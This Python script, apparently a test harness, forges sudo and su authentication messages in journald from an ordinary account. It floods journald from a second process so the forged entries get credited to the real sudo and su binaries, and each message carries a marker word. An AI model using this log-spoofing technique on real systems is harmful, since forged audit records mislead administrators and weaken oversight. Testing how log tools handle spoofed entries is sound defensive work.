"""As an ordinary account: messages under the names of sudo and su, from a process that then becomes that program.

The argument is a word that each message contains. A second process keeps journald busy, so that it looks up the
program after the change. The messages are about root, about another account, and in no form of the programs.
"""

import contextlib
import os
import socket
import sys
import time

PROGRAMS = {"sudo": ["/usr/bin/sudo", "-n", "true"], "su": ["/usr/bin/su", "-c", "true", "root"]}
FORMS = ("root : PWD=/ ; USER=root ; COMMAND=/bin/{}", "(to root) root on {}", "{}", "FAILED SU (to root) daemon on {}",
         "pam_unix(su:session): session opened for user {} by (uid=0)")  # fmt: skip


def send(journal: socket.socket, name: str, text: str) -> None:
    """Send one message of facility auth."""
    with contextlib.suppress(BlockingIOError):
        journal.send(f"SYSLOG_IDENTIFIER={name}\nSYSLOG_FACILITY=4\nPRIORITY=5\nMESSAGE={text}\n".encode())


def connected() -> socket.socket:
    """Return a socket to journald that does not wait."""
    journal = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    journal.connect("/run/systemd/journal/socket")
    journal.setblocking(False)
    return journal


for name, words in PROGRAMS.items():
    busy = os.fork()
    if not busy:
        journal, end = connected(), time.monotonic() + 1
        while time.monotonic() < end:
            send(journal, "busy", "x" * 2000)
        os._exit(0)
    sender = os.fork()
    if not sender:
        journal = connected()
        for form in FORMS:
            send(journal, name, form.format(sys.argv[1]))
        os.dup2(os.open("/dev/null", os.O_RDWR), 0)
        os.execv(words[0], words)  # noqa: S606 - no shell is wanted
    for process in (busy, sender):
        os.waitpid(process, 0)
